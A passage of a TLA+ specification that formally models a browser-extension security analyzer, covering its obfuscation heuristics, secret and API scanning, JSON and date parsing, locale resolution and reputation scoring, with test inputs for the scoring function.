    <<Lit("_0x"), Cls(Chars("abcdef" \o Digits), 4, 6), Cls(SpaceChars, 0, -1), Lit("="),
      Cls(SpaceChars, 0, -1), Lit("[")>>

\* analyzer.ts:695.
LongLineLength == 500

\* analyzer.ts:702.
MinIdentifiers == 100

\* analyzer.ts:760-774, in 2^-LogBits units: a character that occurs count
\* times adds -p * log2(p) with p = count / len, which is log2(len / count) / len
\* for each of its occurrences.  SumOver is the sum of the bits over the
\* positions lo..hi, the range halved at each level.
CalculateEntropy(str) ==
    LET len == Len(str)
        Count(c) == Cardinality({i \in 1..len : CharAt(str, i) = c})
        RECURSIVE SumOver(_, _, _)
        SumOver(bits, lo, hi) ==
            IF lo > hi THEN 0
            ELSE IF lo = hi THEN bits[CharAt(str, lo)]
            ELSE SumOver(bits, lo, (lo + hi) \div 2) + SumOver(bits, ((lo + hi) \div 2) + 1, hi)
    IN  IF len = 0 THEN 0 ELSE SumOver([c \in Chars(str) |-> Log2Fx(len, Count(c))], 1, len) \div len

\* analyzer.ts:694-698.
HasManyLongLines(content) ==
    LET lines == Split(content, "\n")
        longLines == Cardinality({i \in DOMAIN lines : Len(lines[i]) > LongLineLength})
    IN  Len(lines) > 0 /\ 10 * longLines > Len(lines)

\* analyzer.ts:701-707.
HasSuspiciousIdentifiers(content) ==
    LET identifiers == MatchAll(IdentifierPattern, content)
        suspicious == Cardinality({i \in DOMAIN identifiers :
                          Len(identifiers[i]) = 1 \/ MatchEnds(HexNamePattern, 1, identifiers[i], 1) # {}})
    IN  Len(identifiers) > MinIdentifiers /\ 10 * suspicious > 3 * Len(identifiers)

\* analyzer.ts:710.
HasObfuscatorSignature(content) ==
    Includes(content, "javascript-obfuscator") \/ Test(ObfuscatorArrayPattern, content)

\* analyzer.ts:716-719.
RECURSIVE ApiMatches(_, _)
ApiMatches(content, k) ==
    IF k > Len(API_PATTERNS) THEN <<>>
    ELSE LET matches == MatchAll(API_PATTERNS[k], content)
         IN  [i \in DOMAIN matches |-> Trim(matches[i])] \o ApiMatches(content, k + 1)

\* analyzer.ts:722-725: some secret pattern matches the content.
HasSecret(content) ==
    \E k \in DOMAIN SECRET_PATTERNS :
        Test(SECRET_PATTERNS[k].pattern,
             IF SECRET_PATTERNS[k].ignoreCase THEN ToLowerCase(content) ELSE content)

\* analyzer.ts:722-725: the marker of the file, once for every match of
\* every secret pattern, in the order of the calls of secretsSet.add.
RECURSIVE SecretMarkers(_, _, _)
SecretMarkers(content, fileName, k) ==
    IF k > Len(SECRET_PATTERNS) THEN <<>>
    ELSE LET matches == MatchAll(SECRET_PATTERNS[k].pattern,
                                 IF SECRET_PATTERNS[k].ignoreCase THEN ToLowerCase(content) ELSE content)
         IN  [i \in DOMAIN matches |-> "Potential secret found in " \o fileName]
                 \o SecretMarkers(content, fileName, k + 1)

\* analyzer.ts:728-732: some dependency pattern matches the file name.
IsDependency(fileName) ==
    \E k \in DOMAIN DEPENDENCY_PATTERNS : Test(DEPENDENCY_PATTERNS[k], ToLowerCase(fileName))

\* analyzer.ts:730, fileName.split('/').pop() || fileName.
BaseName(fileName) ==
    LET parts == Split(fileName, "/")
    IN  IF parts[Len(parts)] # "" THEN parts[Len(parts)] ELSE fileName

\* analyzer.ts:684.
IsScanned(fileName) ==
    EndsWith(fileName, ".js") \/ EndsWith(fileName, ".html") \/ EndsWith(fileName, ".json")

\* ScanFile with the signature flag of the last script scanned.
ScanFileLastWins(acc, entry) ==
    IF ~IsScanned(entry.name) THEN acc
    ELSE LET content == entry.text
             js == EndsWith(entry.name, ".js")
         IN  [apiCalls |-> SetAddAll(acc.apiCalls, ApiMatches(content, 1)),
              secrets |-> SetAddAll(acc.secrets, SecretMarkers(content, entry.name, 1)),
              dependencies |-> IF IsDependency(entry.name)
                               THEN SetAdd(acc.dependencies, BaseName(entry.name))
                               ELSE acc.dependencies,
              totalEntropy |-> acc.totalEntropy + (IF js THEN CalculateEntropy(content) ELSE 0),
              jsFileCount |-> acc.jsFileCount + (IF js THEN 1 ELSE 0),
              longLineFiles |-> acc.longLineFiles + (IF js /\ HasManyLongLines(content) THEN 1 ELSE 0),
              suspiciousIdentifierFiles |->
                  acc.suspiciousIdentifierFiles + (IF js /\ HasSuspiciousIdentifiers(content) THEN 1 ELSE 0),
              knownObfuscatorFound |-> IF js THEN HasObfuscatorSignature(content) ELSE acc.knownObfuscatorFound]

\* analyzer.ts:684-735, the body of the loop for one entry of zip.files.
ScanFile(acc, entry) ==
    IF ~IsScanned(entry.name) THEN acc
    ELSE LET content == entry.text
             js == EndsWith(entry.name, ".js")
         IN  [apiCalls |-> SetAddAll(acc.apiCalls, ApiMatches(content, 1)),
              secrets |-> SetAddAll(acc.secrets, SecretMarkers(content, entry.name, 1)),
              dependencies |-> IF IsDependency(entry.name)
                               THEN SetAdd(acc.dependencies, BaseName(entry.name))
                               ELSE acc.dependencies,
              totalEntropy |-> acc.totalEntropy + (IF js THEN CalculateEntropy(content) ELSE 0),
              jsFileCount |-> acc.jsFileCount + (IF js THEN 1 ELSE 0),
              longLineFiles |-> acc.longLineFiles + (IF js /\ HasManyLongLines(content) THEN 1 ELSE 0),
              suspiciousIdentifierFiles |->
                  acc.suspiciousIdentifierFiles + (IF js /\ HasSuspiciousIdentifiers(content) THEN 1 ELSE 0),
              knownObfuscatorFound |-> acc.knownObfuscatorFound \/ (js /\ HasObfuscatorSignature(content))]

\* ObfuscationVerdict taking a single signal for obfuscation.
ObfuscationVerdictAnySignal(acc) ==
    LET highEntropy == acc.jsFileCount > 0 /\ 2 * acc.totalEntropy > 11 * Pow2(LogBits) * acc.jsFileCount
        manyLongLines == acc.jsFileCount > 0 /\ 5 * acc.longLineFiles > acc.jsFileCount
        manySuspiciousIdentifiers == acc.jsFileCount > 0 /\ 5 * acc.suspiciousIdentifierFiles > acc.jsFileCount
        signals == (IF highEntropy THEN 1 ELSE 0) + (IF manyLongLines THEN 1 ELSE 0)
                   + (IF manySuspiciousIdentifiers THEN 1 ELSE 0)
    IN  [isObfuscated |-> acc.knownObfuscatorFound \/ signals >= 1,
         obfuscationScore |-> IF acc.knownObfuscatorFound THEN 10
                              ELSE IF signals = 1 THEN 5
                              ELSE IF signals >= 2 THEN 10 ELSE 0]

\* ObfuscationVerdict scoring the signals alone, whatever signature was found.
ObfuscationVerdictSignalsOnly(acc) ==
    LET highEntropy == acc.jsFileCount > 0 /\ 2 * acc.totalEntropy > 11 * Pow2(LogBits) * acc.jsFileCount
        manyLongLines == acc.jsFileCount > 0 /\ 5 * acc.longLineFiles > acc.jsFileCount
        manySuspiciousIdentifiers == acc.jsFileCount > 0 /\ 5 * acc.suspiciousIdentifierFiles > acc.jsFileCount
        signals == (IF highEntropy THEN 1 ELSE 0) + (IF manyLongLines THEN 1 ELSE 0)
                   + (IF manySuspiciousIdentifiers THEN 1 ELSE 0)
    IN  [isObfuscated |-> acc.knownObfuscatorFound \/ signals >= 2,
         obfuscationScore |-> IF signals = 1 THEN 5 ELSE IF signals >= 2 THEN 10 ELSE 0]

\* analyzer.ts:738-749, from the counters the loop leaves: the average entropy
\* exceeds 5.5 when twice the total exceeds 11 per file.
ObfuscationVerdict(acc) ==
    LET highEntropy == acc.jsFileCount > 0 /\ 2 * acc.totalEntropy > 11 * Pow2(LogBits) * acc.jsFileCount
        manyLongLines == acc.jsFileCount > 0 /\ 5 * acc.longLineFiles > acc.jsFileCount
        manySuspiciousIdentifiers == acc.jsFileCount > 0 /\ 5 * acc.suspiciousIdentifierFiles > acc.jsFileCount
        signals == (IF highEntropy THEN 1 ELSE 0) + (IF manyLongLines THEN 1 ELSE 0)
                   + (IF manySuspiciousIdentifiers THEN 1 ELSE 0)
    IN  [isObfuscated |-> acc.knownObfuscatorFound \/ signals >= 2,
         obfuscationScore |-> IF acc.knownObfuscatorFound THEN 10
                              ELSE IF signals = 1 THEN 5
                              ELSE IF signals >= 2 THEN 10 ELSE 0]

\* analyzer.ts:634-758, for the entries of zip.files in their order; the
\* read of an entry that cannot be decompressed rejects.
AnalyzeSourceCode(files) ==
    LET \* 641-649
        start == [apiCalls |-> <<>>, secrets |-> <<>>, dependencies |-> <<>>, totalEntropy |-> 0,
                  jsFileCount |-> 0, longLineFiles |-> 0, suspiciousIdentifierFiles |-> 0,
                  knownObfuscatorFound |-> FALSE]
        RECURSIVE ScanFiles(_, _)
        ScanFiles(acc, k) == IF k > Len(files) THEN acc ELSE ScanFiles(ScanFile(acc, files[k]), k + 1)
        Result(acc, verdict) ==
            [apiCalls |-> acc.apiCalls, secrets |-> acc.secrets, dependencies |-> acc.dependencies,
             isObfuscated |-> verdict.isObfuscated, obfuscationScore |-> verdict.obfuscationScore]
        Verdict(acc) == Result(acc, ObfuscationVerdict(acc))
    IN  IF \E i \in DOMAIN files : IsScanned(files[i].name) /\ files[i].unreadable
        THEN [error |-> "EntryReadError"]
        ELSE Verdict(ScanFiles(start, 1))

-----------------------------------------------------------------------------
(* The values JSON.parse gives (analyzer.ts:479, 552, 567), each tagged with *)
(* its type, and the operations analyzeExtension applies to them.           *)

JsUndefined == [t |-> "undefined"]

Number(n) == [t |-> "num", v |-> n]

Str(s) == [t |-> "str", v |-> s]

Arr(elements) == [t |-> "arr", v |-> elements]

\* An object: its own keys in insertion order and their values.
Obj(keys, vals) == [t |-> "obj", keys |-> keys, vals |-> vals]

\* ToBoolean, as || and if apply it.  The tags "null" and "bool" are those
\* of null and of true and false; "builtin" is that of a member every object
\* inherits (a function of Object.prototype).
Truthy(v) ==
    CASE v.t \in {"undefined", "null"} -> FALSE
      [] v.t = "bool" -> v.v
      [] v.t = "num" -> v.v # 0
      [] v.t = "str" -> v.v # ""
      [] v.t \in {"arr", "obj", "builtin"} -> TRUE

\* a || b
OrElse(a, b) == IF Truthy(a) THEN a ELSE b

\* The number a string of decimal digits denotes.
RECURSIVE DigitsValue(_, _)
DigitsValue(s, acc) ==
    IF s = "" THEN acc
    ELSE DigitsValue(Tail(s), 10 * acc + (CHOOSE d \in 0..9 : CharAt(Digits, d + 1) = CharAt(s, 1)))

\* The position of a key among the own keys of an object, 0 when it has none.
KeyIndex(keys, key) ==
    IF \E i \in DOMAIN keys : keys[i] = key THEN CHOOSE i \in DOMAIN keys : keys[i] = key ELSE 0

\* v[key] for a value that is neither null nor undefined: an own property,
\* an element or a character at an array index ("0", or digits without a
\* leading zero), the length, or an inherited member.
Get(v, key) ==
    LET isIndex == /\ key # "" /\ Len(key) <= 9
                   /\ \A i \in 1..Len(key) : CharAt(key, i) \in Chars(Digits)
                   /\ (Len(key) > 1 => CharAt(key, 1) # "0")
        inherited == IF key \in ObjectPrototypeKeys THEN [t |-> "builtin"] ELSE JsUndefined
    IN  CASE v.t = "obj" ->
                IF KeyIndex(v.keys, key) # 0 THEN v.vals[KeyIndex(v.keys, key)] ELSE inherited
          [] v.t \in {"arr", "str"} ->
                IF isIndex /\ DigitsValue(key, 0) < Len(v.v)
                THEN (IF v.t = "arr" THEN v.v[DigitsValue(key, 0) + 1]
                      ELSE Str(CharAt(v.v, DigitsValue(key, 0) + 1)))
                ELSE IF key = "length" THEN Number(Len(v.v))
                ELSE inherited
          [] v.t \in {"num", "bool", "builtin"} -> inherited

\* Reading a property of null or undefined throws a TypeError.
Nullish(v) == v.t \in {"undefined", "null"}

\* JSON.parse: [ok |-> TRUE, value |-> the value, next |-> the position after
\* it] for a text made up of one value and white space, [ok |-> FALSE] for a
\* text that is not JSON (a SyntaxError).  The texts analysed hold integers
\* as their only numbers and \", \\, \/, \n, \t, \r as their only escapes.
JsonParse(text) ==
    LET failure == [ok |-> FALSE]
        Parsed(value, next) == [ok |-> TRUE, value |-> value, next |-> next]
        \* The position of the first character from i on that is no white space.
        SkipSpace(i) == i + ClassRun(text, i, SpaceChars, -1)
        \* obj[key] = val: a repeated key keeps its place and takes the later value.
        ObjPut(obj, key, val) ==
            IF KeyIndex(obj.keys, key) # 0
            THEN Obj(obj.keys, [obj.vals EXCEPT ![KeyIndex(obj.keys, key)] = val])
            ELSE Obj(Append(obj.keys, key), Append(obj.vals, val))
        escapes == [c \in {"\"", "\\", "/", "n", "t", "r"} |->
                       CASE c = "n" -> "\n" [] c = "t" -> "\t" [] c = "r" -> "\r" [] OTHER -> c]
        \* The characters from position i on that stand for themselves in a string.
        PlainRun(i) == ClassRun(text, i, Chars(text) \ {"\"", "\\", "\n", "\t", "\r"}, -1)
        RECURSIVE ParseString(_, _)
        \* ParseString at the first character that does not stand for itself.
        StringFrom(acc, stop) ==
            IF stop > Len(text) THEN failure
            ELSE IF CharAt(text, stop) = "\"" THEN Parsed(Str(acc), stop + 1)
            ELSE IF CharAt(text, stop) = "\\" /\ CharAt(text, stop + 1) \in DOMAIN escapes
            THEN ParseString(stop + 2, acc \o escapes[CharAt(text, stop + 1)])
            ELSE failure
        \* A string whose opening quote precedes position i.
        ParseString(i, acc) ==
            StringFrom(IF PlainRun(i) = 0 THEN acc ELSE acc \o SubSeq(text, i, i + PlainRun(i) - 1),
                       i + PlainRun(i))
        \* A number of run digits at position i.
        NumberFrom(i, run) ==
            IF run = 0 \/ (run > 1 /\ CharAt(text, i) = "0") THEN failure
            ELSE Parsed(Number(DigitsValue(SubSeq(text, i, i + run - 1), 0)), i + run)
        RECURSIVE ParseValue(_)
        RECURSIVE ParseMembers(_, _)
        RECURSIVE ParseElements(_, _)
        \* After a member: the closing brace, or a comma and the next member.
        MemberNext(obj, after) ==
            IF CharAt(text, after) = "}" THEN Parsed(obj, after + 1)
            ELSE IF CharAt(text, after) = "," THEN ParseMembers(SkipSpace(after + 1), obj)
            ELSE failure
        MemberRest(obj, key, val) ==
            IF ~val.ok THEN failure ELSE MemberNext(ObjPut(obj, key, val.value), SkipSpace(val.next))
        MemberValue(obj, key, colon) ==
            IF CharAt(text, colon) # ":" THEN failure
            ELSE MemberRest(obj, key, ParseValue(SkipSpace(colon + 1)))
        MemberKey(obj, key) ==
            IF ~key.ok THEN failure ELSE MemberValue(obj, key.value.v, SkipSpace(key.next))
        \* The members of an object, i at the first character of a key.
        ParseMembers(i, obj) ==
            IF CharAt(text, i) # "\"" THEN failure ELSE MemberKey(obj, ParseString(i + 1, ""))
        \* After an element: the closing bracket, or a comma and the next element.
        ElementNext(elements, after) ==
            IF CharAt(text, after) = "]" THEN Parsed(Arr(elements), after + 1)
            ELSE IF CharAt(text, after) = "," THEN ParseElements(SkipSpace(after + 1), elements)
            ELSE failure
        ElementRest(elements, val) ==
            IF ~val.ok THEN failure ELSE ElementNext(Append(elements, val.value), SkipSpace(val.next))
        \* The elements of an array, i at the first character of an element.
        ParseElements(i, elements) == ElementRest(elements, ParseValue(i))
        ObjectFrom(i) ==
            IF CharAt(text, i) = "}" THEN Parsed(Obj(<<>>, <<>>), i + 1) ELSE ParseMembers(i, Obj(<<>>, <<>>))
        ArrayFrom(i) ==
            IF CharAt(text, i) = "]" THEN Parsed(Arr(<<>>), i + 1) ELSE ParseElements(i, <<>>)
        \* The value that starts at position i.
        ParseValue(i) ==
            IF i > Len(text) THEN failure
            ELSE IF CharAt(text, i) = "{" THEN ObjectFrom(SkipSpace(i + 1))
            ELSE IF CharAt(text, i) = "[" THEN ArrayFrom(SkipSpace(i + 1))
            ELSE IF CharAt(text, i) = "\"" THEN ParseString(i + 1, "")
            ELSE IF CharAt(text, i) \in Chars(Digits) THEN NumberFrom(i, ClassRun(text, i, Chars(Digits), 9))
            ELSE IF SubSeq(text, i, Min(Len(text), i + 3)) = "true" THEN Parsed([t |-> "bool", v |-> TRUE], i + 4)
            ELSE IF SubSeq(text, i, Min(Len(text), i + 4)) = "false" THEN Parsed([t |-> "bool", v |-> FALSE], i + 5)
            ELSE IF SubSeq(text, i, Min(Len(text), i + 3)) = "null" THEN Parsed([t |-> "null"], i + 4)
            ELSE failure
        Whole(val) == IF val.ok /\ SkipSpace(val.next) > Len(text) THEN val ELSE failure
    IN  Whole(ParseValue(SkipSpace(1)))

-----------------------------------------------------------------------------
(* The archive JSZip.loadAsync gives: the entries of zip.files in their     *)
(* order, each a record with its name and its content as text.             *)

\* An entry: a file, a folder (its name ends with a slash), or a file whose
\* compressed data is corrupt, so that async() rejects.
Entry(path, text, kind) ==
    [name |-> path, text |-> text, dir |-> kind = "folder", unreadable |-> kind = "corrupt"]

\* ZipFile finding a file by the end of its name, in whatever folder it lies.
ZipFileAnywhere(archive, path) ==
    IF \E i \in DOMAIN archive : EndsWith(archive[i].name, path) /\ ~archive[i].dir
    THEN <<archive[CHOOSE i \in DOMAIN archive : EndsWith(archive[i].name, path) /\ ~archive[i].dir]>>
    ELSE <<>>

\* zip.file(path): the entry of that name that is no folder, as an optional value.
ZipFile(archive, path) ==
    IF \E i \in DOMAIN archive : archive[i].name = path /\ ~archive[i].dir
    THEN <<archive[CHOOSE i \in DOMAIN archive : archive[i].name = path /\ ~archive[i].dir]>>
    ELSE <<>>

\* async('base64'): three bytes give four characters, the last group padded.
\* A character of an entry is the byte of its ASCII code.
RECURSIVE Base64(_)
Base64(text) ==
    LET low == " !\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_"
        high == "abcdefghijklmnopqrstuvwxyz{|}~"
        CharCode(c) ==
            CASE c = "\t" -> 9
              [] c = "\n" -> 10
              [] c = "\r" -> 13
              [] c \in Chars(low) -> 31 + (CHOOSE i \in 1..Len(low) : CharAt(low, i) = c)
              [] c \in Chars(high) -> 96 + (CHOOSE i \in 1..Len(high) : CharAt(high, i) = c)
        Digit(n) == CharAt("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", n + 1)
        b1 == CharCode(CharAt(text, 1))
        b2 == IF Len(text) >= 2 THEN CharCode(CharAt(text, 2)) ELSE 0
        b3 == IF Len(text) >= 3 THEN CharCode(CharAt(text, 3)) ELSE 0
    IN  IF text = "" THEN ""
        ELSE Digit(b1 \div 4)
             \o Digit((b1 % 4) * 16 + b2 \div 16)
             \o (IF Len(text) >= 2 THEN Digit((b2 % 16) * 4 + b3 \div 64) ELSE "=")
             \o (IF Len(text) >= 3 THEN Digit(b3 % 64) ELSE "=")
             \o (IF Len(text) > 3 THEN Base64(SubSeq(text, 4, Len(text))) ELSE "")

-----------------------------------------------------------------------------
(* calculateReputationScore, analyzer.ts:842-884 *)

\* Math.log10 of an integer 1 <= n < 2^30, in milli.
Log10Milli(n) ==
    LET e == FloorLog2(n, 1, 0)
        y == IF e <= MantissaBits THEN n * Pow2(MantissaBits - e) ELSE n \div Pow2(e - MantissaBits)
    IN  (Milli * LogDigits(y, 1, e)) \div Log2Fx(10, 1)

\* The milliseconds of a day.
DayMs == 86400000

\* new Date(text).getTime() as an optional value, empty for NaN: the day
\* since 1970-01-01 and the millisecond of that day (UTC).  The date-time
\* formats read are YYYY-MM-DD and YYYY-MM-DDTHH:mm:ss.sssZ, that of
\* toISOString; a text without any digit is no date.  Other texts with
\* digits, and days past the end of their month, are read differently by
\* different engines and are not among the inputs.
DateParse(text) ==
    LET IsNumber(s) == s # "" /\ Chars(s) \subseteq Chars(Digits)
        Field(from, to) == SubSeq(text, from, to)
        Value(from, to) == DigitsValue(Field(from, to), 0)
        dateShaped == /\ Len(text) \in {10, 24}
                      /\ IsNumber(Field(1, 4)) /\ CharAt(text, 5) = "-"
                      /\ IsNumber(Field(6, 7)) /\ CharAt(text, 8) = "-"
                      /\ IsNumber(Field(9, 10))
        timeShaped == /\ CharAt(text, 11) = "T"
                      /\ IsNumber(Field(12, 13)) /\ CharAt(text, 14) = ":"
                      /\ IsNumber(Field(15, 16)) /\ CharAt(text, 17) = ":"
                      /\ IsNumber(Field(18, 19)) /\ CharAt(text, 20) = "."
                      /\ IsNumber(Field(21, 23)) /\ CharAt(text, 24) = "Z"
        Leap(y) == y % 4 = 0 /\ (y % 100 # 0 \/ y % 400 = 0)
        DaysIn(y, m) == IF m = 2 THEN (IF Leap(y) THEN 29 ELSE 28)
                        ELSE IF m \in {4, 6, 9, 11} THEN 30 ELSE 31
        \* the days from 1970-01-01 to a day of the Gregorian calendar
        Days(y, m, d) ==
            LET yy == IF m <= 2 THEN y - 1 ELSE y
                era == yy \div 400
                yoe == yy - era * 400
                doy == ((153 * (IF m > 2 THEN m - 3 ELSE m + 9) + 2) \div 5) + d - 1
            IN  era * 146097 + yoe * 365 + (yoe \div 4) - (yoe \div 100) + doy - 719468
        Date(y, m, d, ms) ==
            IF m \in 1..12 /\ d \in 1..DaysIn(y, m) /\ ms \in 0..(DayMs - 1)
            THEN <<[day |-> Days(y, m, d), ms |-> ms]>>
            ELSE <<>>
        TimeOfDay(h, mi, s, ms) ==
            IF h \in 0..23 /\ mi \in 0..59 /\ s \in 0..59 THEN ((h * 60 + mi) * 60 + s) * 1000 + ms ELSE DayMs
    IN  IF ~dateShaped THEN <<>>
        ELSE IF Len(text) = 10 THEN Date(Value(1, 4), Value(6, 7), Value(9, 10), 0)
        ELSE IF ~timeShaped THEN <<>>
        ELSE Date(Value(1, 4), Value(6, 7), Value(9, 10),
                  TimeOfDay(Value(12, 13), Value(15, 16), Value(18, 19), Value(21, 23)))

\* analyzer.ts:860: parseInt(userCount.replace(/[^0-9]/g, '')) || 0.
Users(userCount) ==
    LET RECURSIVE Kept(_)
        Kept(s) == IF s = "" THEN ""
                   ELSE (IF CharAt(s, 1) \in Chars(Digits) THEN CharAt(s, 1) ELSE "") \o Kept(Tail(s))
    IN  DigitsValue(Kept(userCount), 0)

\* RecencyPoints without the limit of 24 months.
RecencyPointsNoLimit(lastUpdated, now) ==
    LET parsed == DateParse(lastUpdated)
        days == (now.day - parsed[1].day) + ((now.ms - parsed[1].ms) \div DayMs)
    IN  IF parsed # <<>>
        THEN (IF days < 6 * 30 THEN 15 ELSE IF days < 12 * 30 THEN 10 ELSE 5)
        ELSE IF lastUpdated # "" THEN 5 ELSE 0

\* RecencyPoints giving nothing for a text that is no date.
RecencyPointsDatesOnly(lastUpdated, now) ==
    LET parsed == DateParse(lastUpdated)
        days == (now.day - parsed[1].day) + ((now.ms - parsed[1].ms) \div DayMs)
    IN  IF parsed # <<>>
        THEN (IF days < 6 * 30 THEN 15 ELSE IF days < 12 * 30 THEN 10 ELSE IF days < 24 * 30 THEN 5 ELSE 0)
        ELSE 0

\* analyzer.ts:867-876: now is the value of new Date().getTime().  A
\* difference is less than n periods of 30 days when its whole days are
\* fewer than 30 n.
RecencyPoints(lastUpdated, now) ==
    LET parsed == DateParse(lastUpdated)
        days == (now.day - parsed[1].day) + ((now.ms - parsed[1].ms) \div DayMs)
    IN  IF parsed # <<>>
        THEN (IF days < 6 * 30 THEN 15 ELSE IF days < 12 * 30 THEN 10 ELSE IF days < 24 * 30 THEN 5 ELSE 0)
        ELSE IF lastUpdated # "" THEN 5 ELSE 0

\* analyzer.ts:851, in milli: (rating / 5) * 20, rating in milli.
RatingPoints(rating) == 4 * rating

\* analyzer.ts:842-884: rating is in milli, ratingCount an integer, the
\* optional flags FALSE when absent.
CalculateReputationScore(reputation, now) ==
    LET Clamp(cap, points) == Min(cap, IF points < 0 THEN 0 ELSE points)
        users == Users(reputation.userCount)
        score == (IF reputation.isVerifiedPublisher THEN 20 * Milli ELSE 0)
                 + RatingPoints(reputation.rating)
                 + (IF reputation.ratingCount > 0
                    THEN Clamp(15 * Milli, (Log10Milli(reputation.ratingCount) * 15) \div 5)
                    ELSE 0)
                 + (IF users > 0 THEN Clamp(20 * Milli, (Log10Milli(users) * 20) \div 7) ELSE 0)
                 + RecencyPoints(reputation.lastUpdated, now) * Milli
                 + (IF reputation.isFeatured THEN 10 * Milli ELSE 0)
    IN  Min(100, MathRound(score))

-----------------------------------------------------------------------------
(* Direct calls of calculateReputationScore (as the scoring tests make them) *)

\* The moments at which a call runs: the values of new Date().
Times ==
    {DateParse(t)[1] : t \in {"2026-11-01T12:00:00.000Z", "2026-11-07T09:30:00.000Z", "2027-03-01T00:00:00.000Z"}}

\* The reputations of the tests and ones around them: ratings outside 0..5,
\* counts on both sides of the caps, dates in every period, and dates that
\* are not parsed.
ReputationInputs ==
    [publisher : {"Dev"},
     rating : {-1 * Milli, 0, 4 * Milli, 4500, 5 * Milli, 6 * Milli},
     ratingCount : {0, 1, 100, 100000, 1000000},
     userCount : {"0", "", "1,000", "10,000,000+", "999,999,999 users"},
     lastUpdated : {"2020-01-01", "2026-11-01T12:00:00.000Z", "2026-05-10", "2025-12-01",
                    "2025-01-15", "2024-11-20", "", "recently"},
     isFeatured : BOOLEAN,
     isVerifiedPublisher : BOOLEAN]

InitReputation ==
    /\ fn = "calculateReputationScore"
    /\ args \in [reputation : ReputationInputs]
    /\ ret = <<>>
    /\ NoRun
    /\ NoWeb

CallCalculateReputationScore ==
    /\ fn = "calculateReputationScore"
    /\ ret = <<>>
    /\ \E now \in Times : ret' = <<CalculateReputationScore(args.reputation, now)>>
    /\ UNCHANGED <<webVars, fn, args, runVars>>

SpecReputation == InitReputation /\ [][CallCalculateReputationScore]_vars

-----------------------------------------------------------------------------
(* analyzeExtension, analyzer.ts:439-537 *)

\* String.prototype.replace with a string pattern: the first occurrence only.
ReplaceFirst(s, sub, by) ==
    LET at == IF Includes(s, sub)
              THEN CHOOSE i \in 1..(Len(s) - Len(sub) + 1) :
                       /\ SubSeq(s, i, i + Len(sub) - 1) = sub
                       /\ \A j \in 1..(i - 1) : SubSeq(s, j, j + Len(sub) - 1) # sub
              ELSE 0
    IN  IF at = 0 THEN s
        ELSE (IF at = 1 THEN "" ELSE SubSeq(s, 1, at - 1))
             \o by
             \o (IF at + Len(sub) > Len(s) THEN "" ELSE SubSeq(s, at + Len(sub), Len(s)))

\* The string a template literal or a string concatenation makes of a value
\* (the manifests analysed put strings, numbers, booleans or null there).
TemplateText(v) ==
    CASE v.t = "str" -> v.v
      [] v.t = "num" -> ToString(v.v)
      [] v.t = "bool" -> IF v.v THEN "true" ELSE "false"
      [] v.t = "null" -> "null"
      [] v.t = "undefined" -> "undefined"

\* analyzer.ts:443-450: the bytes of the file argument.  A Uint8Array is a
\* view of byteLength bytes at byteOffset of its buffer; a Blob or an
\* ArrayBuffer gives all its bytes.
ToArrayBuffer(file) ==
    IF file.kind = "Uint8Array"
    THEN SubSeq(file.buffer, file.byteOffset + 1, file.byteOffset + file.byteLength)
    ELSE file.buffer

\* The locales with English before the default locale of the manifest.
LocaleOrderEnglishFirst(defaultLocale) == <<"en", defaultLocale, "en_US", "en_GB">>

\* analyzer.ts:544: the locales tried in turn.
LocaleOrder(defaultLocale) == <<defaultLocale, "en", "en_US", "en_GB">>

\* analyzer.ts:539-575.
ResolveLocaleString(archive, parsed, key) ==
    LET messageKey == ReplaceFirst(ReplaceFirst(key, "__MSG_", ""), "__", "")
        defaultLocale == TemplateText(OrElse(Get(parsed, "default_locale"), Str("en")))
        locales == LocaleOrder(defaultLocale)
        \* 549-559 and 565-571: the message a locale file gives for the key, as
        \* an optional value; a read or parse error counts as no message.
        Message(messages) ==
            IF ~messages.ok \/ Nullish(messages.value) THEN <<>>
            ELSE IF Truthy(Get(messages.value, messageKey))
                    /\ Truthy(Get(Get(messages.value, messageKey), "message"))
            THEN <<Get(Get(messages.value, messageKey), "message")>>
            ELSE <<>>
        LocaleMessage(entry) == IF entry.unreadable THEN <<>> ELSE Message(JsonParse(entry.text))
        \* 546-560: the locales tried in turn from the k-th on.
        RECURSIVE TryLocales(_)
        TryFile(k, localeFile) == IF localeFile = <<>> THEN <<>> ELSE LocaleMessage(localeFile[1])
        TryNext(k, found) == IF found # <<>> THEN found ELSE TryLocales(k + 1)
        TryLocales(k) ==
            IF k > Len(locales) THEN <<>>
            ELSE TryNext(k, TryFile(k, ZipFile(archive, "_locales/" \o locales[k] \o "/messages.json")))
        \* 563-572: every locale file of the archive from the k-th entry on.
        RECURSIVE SearchLocales(_)
        SearchNext(k, found) == IF found # <<>> THEN found ELSE SearchLocales(k + 1)
        SearchLocales(k) ==
            IF k > Len(archive) THEN <<>>
            ELSE SearchNext(k, IF StartsWith(archive[k].name, "_locales/")
                                  /\ EndsWith(archive[k].name, "messages.json")
                               THEN LocaleMessage(archive[k]) ELSE <<>>)
        Fallback(found) == IF found # <<>> THEN found[1] ELSE Str(key)
        Resolve(found) == IF found # <<>> THEN found[1] ELSE Fallback(SearchLocales(1))
    IN  Resolve(TryLocales(1))

\* [...value] of a permission list, as an optional value: the strings of an
\* array of strings, the characters of a string; spreading a number, a
\* boolean or an object, or classifying an element that is a number, a
\* boolean, null or an object, throws a TypeError.
PermissionList(v) ==
    CASE v.t = "str" -> <<[i \in 1..Len(v.v) |-> CharAt(v.v, i)]>>
      [] v.t = "arr" /\ (\A i \in DOMAIN v.v : v.v[i].t = "str") -> <<[i \in DOMAIN v.v |-> v.v[i].v]>>
      [] v.t = "arr" /\ (\E i \in DOMAIN v.v : v.v[i].t \in {"num", "bool", "null", "obj"}) -> <<>>
      [] v.t \in {"num", "bool", "obj"} -> <<>>

\* manifestVersion as calculateDetailedRisk compares and prints it (the
\* manifests analysed give it as a number or leave it out).
NumberOf(v) == CASE v.t = "num" -> v.v

-----------------------------------------------------------------------------
(* The archives and the files analysed *)

Archives ==
    LET \* manifest.json of test_extension.zip (analyzer.test.ts:7-15)
        basicManifest == "{\"name\":\"Test Extension\",\"version\":\"1.0\",\"permissions\":[\"tabs\",\"storage\"]}"
        \* analyzer.test.ts:20-25, as JSON.stringify writes it
        sensitiveManifest == "{\"name\":\"Sensitive Extension\",\"version\":\"1.0\",\"manifest_version\":3,\"permissions\":[\"cookies\"]}"
        \* analyzer.test.ts:26-30
